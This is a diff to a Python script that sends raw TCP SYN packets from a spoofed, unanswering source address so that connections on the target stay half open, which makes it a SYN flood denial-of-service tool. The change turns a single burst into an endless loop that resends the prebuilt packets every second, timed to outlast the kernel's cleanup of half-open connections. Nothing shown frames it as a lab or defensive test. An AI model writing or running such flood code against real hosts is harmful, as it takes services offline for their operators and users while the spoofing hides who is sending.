@@ -1,10 +1,12 @@
-"""SYNs from an address where nobody is, so that each handshake stays half done (needs NET_RAW): HOST SOURCE COUNT."""
+"""SYNs from an address where nobody is, so that handshakes stay half done (needs NET_RAW): HOST SOURCE COUNT."""
 
 import socket
 import struct
 import sys
+import time
 
 _SYN = 0x02
+_INTERVAL_S = 1.0
 
 
 def checksum(data: bytes) -> int:
@@ -24,11 +26,15 @@ def syn(source: bytes, target: bytes, port: int) -> bytes:
 
 
 def main(host: str, source: str, count: int) -> None:
-    """Send one from each of so many ports."""
+    """Send one from each of so many ports, again and again: the kernel gives up some of them each second."""
     address = socket.gethostbyname(host)
+    ends = socket.inet_aton(source), socket.inet_aton(address)
+    packets = [syn(*ends, port) for port in range(1024, 1024 + count)]
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        for port in range(1024, 1024 + count):
-            sock.sendto(syn(socket.inet_aton(source), socket.inet_aton(address), port), (address, 0))
+        while True:
+            for packet in packets:
+                sock.sendto(packet, (address, 0))
+            time.sleep(_INTERVAL_S)
 
 
 if __name__ == "__main__":
